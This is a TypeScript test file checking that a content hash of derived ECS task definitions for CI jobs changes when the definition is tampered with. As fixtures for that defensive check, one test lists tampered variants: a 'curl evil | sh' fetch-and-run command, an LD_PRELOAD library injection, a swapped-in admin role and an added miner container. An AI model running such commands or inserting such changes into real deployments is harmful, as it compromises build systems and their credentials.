import type { ContainerDefinition, TaskDefinition } from '@aws-sdk/client-ecs';
import { describe, expect, it } from 'vitest';
import { contentHash, definitionContent } from './content.js';
import { deriveTaskDefinition } from './derive.js';
import { TEMPLATE } from './test-template.js';

const derived = deriveTaskDefinition({
  template: TEMPLATE,
  helperContainerName: 'ci-coordinator',
  buildsDir: '/opt/gitlab-runner/builds',
  settings: { agentImage: 'local/job-agent:1', registryCredentials: [], familyPrefix: 'ci-job' },
  image: { name: 'ruby:3.3' },
  services: [{ name: 'redis:7', alias: 'cache', variables: [], ports: [] }],
});

/** The container as DescribeTaskDefinition answers it: with the defaults ECS fills in. */
function asDescribed(container: ContainerDefinition): ContainerDefinition {
  return {
    cpu: 0,
    essential: true,
    environment: [],
    volumesFrom: [],
    systemControls: [],
    ...container,
    portMappings: (container.portMappings ?? []).map((mapping) => ({ hostPort: mapping.containerPort, protocol: 'tcp', ...mapping })),
    mountPoints: (container.mountPoints ?? []).map((mount) => ({ readOnly: false, ...mount })),
  };
}

/** The derived definition as ECS describes it after registration: its bookkeeping added, its defaults filled in. */
function described(changes: Partial<TaskDefinition> = {}): TaskDefinition {
  const { tags: _tags, ...registered } = derived.input;
  return {
    ...registered,
    taskDefinitionArn: `arn:aws:ecs:eu-west-1:123456789012:task-definition/${derived.family}:1`,
    revision: 1,
    status: 'ACTIVE',
    compatibilities: ['EC2', 'FARGATE'],
    requiresAttributes: [{ name: 'ecs.capability.task-eni' }],
    placementConstraints: [],
    registeredAt: new Date('2026-12-01T00:00:00Z'),
    registeredBy: 'arn:aws:iam::123456789012:role/manager',
    volumes: (registered.volumes ?? []).map((volume) => ({ ...volume, host: {} })),
    containerDefinitions: registered.containerDefinitions.map(asDescribed),
    ...changes,
  };
}

const withContainer = (name: string, change: Partial<ContainerDefinition>): Partial<TaskDefinition> => ({
  containerDefinitions: described().containerDefinitions?.map((container) =>
    container.name === name ? { ...container, ...change } : container,
  ),
});

describe('contentHash', () => {
  it('names the derived definition, and gives the same hash for it as ECS describes it back', () => {
    expect(derived.hash).toBe(contentHash(derived.input));
    expect(contentHash(described())).toBe(derived.hash);
  });

  it('differs when the image, a role, a command, the environment or a container differs behind the same name', () => {
    const hashes = [
      withContainer('build', { image: 'evil/ruby:3.3' }),
      withContainer('svc-0', { image: 'redis:7-evil' }),
      withContainer('gf-init', { command: ['/opt/gf/busybox', 'sh', '-c', 'curl evil | sh'] }),
      withContainer('build', { environment: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] }),
      withContainer('build', { essential: false }),
      withContainer('build', { portMappings: [{ containerPort: 2222, hostPort: 2222, protocol: 'udp' }] }),
      withContainer('build', { mountPoints: [{ sourceVolume: 'gf-tools', containerPath: '/opt/gf', readOnly: false }] }),
      { taskRoleArn: 'arn:aws:iam::123456789012:role/admin' },
      { executionRoleArn: 'arn:aws:iam::123456789012:role/admin' },
      { containerDefinitions: [...(described().containerDefinitions ?? []), { name: 'svc-9', image: 'miner', essential: false }] },
    ].map((change) => contentHash(described(change)));
    expect(new Set([...hashes, derived.hash]).size).toBe(hashes.length + 1);
  });

  it("leaves out ECS's bookkeeping and the members a derived definition does not have", () => {
    const content = definitionContent(described()) as Record<string, unknown>;
    expect(Object.keys(content).sort()).toEqual(['containerDefinitions', 'cpu', 'executionRoleArn', 'memory', 'networkMode', 'requiresCompatibilities', 'runtimePlatform', 'taskRoleArn', 'volumes']);
  });
});
